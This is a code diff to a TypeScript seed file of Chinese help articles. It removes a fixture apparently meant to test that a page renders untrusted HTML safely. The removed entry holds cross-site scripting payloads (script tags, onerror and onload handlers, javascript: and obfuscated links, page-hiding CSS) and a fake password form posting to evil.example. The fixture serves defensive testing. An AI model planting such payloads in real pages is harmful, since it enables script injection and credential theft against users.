@@ -192,17 +192,6 @@ const TROUBLE_HELP: readonly HelpSeed[] = [
     updatedAt: '2026-09-01',
     content: `<ul><li>18 点至 24 点累计离线超过 15 分钟，设备当日不计费；</li><li>晚高峰单条线路离线超过 30 分钟，该线路不计费；</li><li>当日在线不足 12 小时；</li><li>限速或作弊。</li></ul>`,
   },
-  {
-    // dangerous content, as after an attack or an unchecked paste: none of it may run or load (hazard 8)
-    id: '10666',
-    title: '含有危险内容的文章 <script>document.title="harmed"</script>',
-    updatedAt: '2026-05-05',
-    content: `<p onclick="document.title='harmed'">这篇文章用于检查页面是否安全，正文应当正常显示。</p>
-<script>document.title='harmed'</script><img src="x" onerror="document.title='harmed'"><svg onload="document.title='harmed'"><script>document.title='harmed'</script></svg>
-<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"><button>登录</button></form>
-<a href="javascript:document.title='harmed'">脚本链接</a> <a href="java&#9;script:alert(1)">含制表符的链接</a> <a href="data:text/html,x">数据链接</a> <a href="https://docs.partner.example/ok">正常链接</a>
-<style>body{display:none}</style><p style="position:fixed;inset:0">盖住页面的段落</p><p>正文结束。</p>`,
-  },
 ];
 
 export const HELP: readonly HelpTagSeed[] = [
